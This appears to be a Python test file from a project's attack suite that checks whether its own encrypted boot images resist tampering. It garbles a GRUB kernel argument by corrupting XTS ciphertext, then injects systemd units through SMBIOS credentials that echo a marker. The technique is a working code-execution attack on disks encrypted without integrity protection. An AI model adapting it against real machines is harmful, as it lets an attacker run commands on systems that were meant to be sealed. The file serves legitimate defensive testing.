# SPDX-FileCopyrightText: 2026 the sealedroot.image authors
# SPDX-License-Identifier: GPL-3.0-or-later

"""The host garbles the sixteen bytes of grub.cfg that tell systemd to take no credentials, until GRUB understands what
is left of the line; and gives credentials in SMBIOS strings.

The guest must reset before it takes one.

Why: the encryption has no integrity, and a word that is lost opens what it closed.
"""

from __future__ import annotations

import secrets

from attack_images import ONE_EACH, XTS_BLOCK, ciphertext, content
from attacks import MARKER, Attack, Outcome, Stage
from hostile import write

WORD = b"systemd.import_credentials=no"
UNIT = f"[Service]\nType=oneshot\nExecStart=/bin/sh -c 'echo {MARKER} >/dev/console'\n"


def play(stage: Stage) -> Outcome:
    config = content(stage.image, "/boot/grub/grub.cfg")
    found = config.find(WORD)
    # Of a guest that was not told, nothing is to be garbled.
    if found >= 0:
        middle = (found + len(WORD) // 2) // XTS_BLOCK * XTS_BLOCK
        noise = secrets.token_hex(XTS_BLOCK // 2).encode()
        write(stage.raw, *ciphertext(stage.image, "/boot/grub/grub.cfg", middle, noise))
    for name, text in (
        # The one is for systemd 252, the others are for 256 and later.
        ("tmpfiles.extra", f"w /dev/console - - - - {MARKER}\n"),
        ("systemd.extra-unit.host.service", UNIT),
        ("systemd.unit-dropin.sysinit.target", "[Unit]\nWants=host.service\n"),
    ):
        stage.more += ["-smbios", f"type=11,value={stage.credential(name, text)}"]
    guest = stage.genuine()
    stage.unlock(guest)
    return stage.watch(guest, won=[MARKER], seconds=300)


ATTACK = Attack(images=ONE_EACH, play=play)
